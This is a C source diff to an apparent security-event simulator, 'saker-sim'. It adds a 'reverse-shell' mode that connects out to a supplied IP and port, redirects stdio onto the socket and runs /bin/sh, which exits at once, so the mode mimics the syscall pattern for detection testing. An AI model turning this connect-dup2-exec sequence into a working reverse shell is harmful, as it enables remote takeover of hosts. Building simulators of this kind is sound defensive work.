@@ -248,6 +248,27 @@ static int do_connect(int argc, char **argv) {
   return 0;
 }
 
+/* reverse-shell IP PORT: connect out, make the socket stdin/stdout/stderr, run a shell that
+   exits at once (a reverse shell whose operator sends nothing). */
+static int do_reverse_shell(int argc, char **argv) {
+  if (argc < 4) return 2;
+  struct sockaddr_in a;
+  if (parse_addr(argv[2], argv[3], &a) != 0) return 2;
+  int s = socket(AF_INET, SOCK_STREAM, 0);
+  if (s < 0) return 3;
+  char args[128];
+  snprintf(args, sizeof args, "%s:%s tcp", argv[2], argv[3]);
+  long r = rc(connect(s, (struct sockaddr *)&a, sizeof a));
+  report("connect", args, r);
+  if (r != 0) return 3;
+  report("dup2", "socket->0,1,2", rc(dup2(s, 0) < 0 || dup2(s, 1) < 0 || dup2(s, 2) < 0 ? -1 : 0));
+  close(s);
+  note("exec /bin/sh");
+  execl("/bin/sh", "sh", "-c", "exit 0", (char *)NULL);
+  report("execve", "/bin/sh", -errno);
+  return 3;
+}
+
 /* listen IP PORT SECONDS: accept TCP connections and close them, until SECONDS pass. */
 static int do_listen(int argc, char **argv) {
   if (argc < 5) return 2;
@@ -317,6 +338,7 @@ int main(int argc, char **argv) {
   if (!strcmp(m, "unshare-uts")) return do_unshare_uts();
   if (!strcmp(m, "connect")) return do_connect(argc, argv);
   if (!strcmp(m, "listen")) return do_listen(argc, argv);
+  if (!strcmp(m, "reverse-shell")) return do_reverse_shell(argc, argv);
   if (!strcmp(m, "proc-mem")) return do_proc_mem();
   if (!strcmp(m, "chmod")) return do_chmod(argc, argv);
   note("saker-sim: unknown mode");
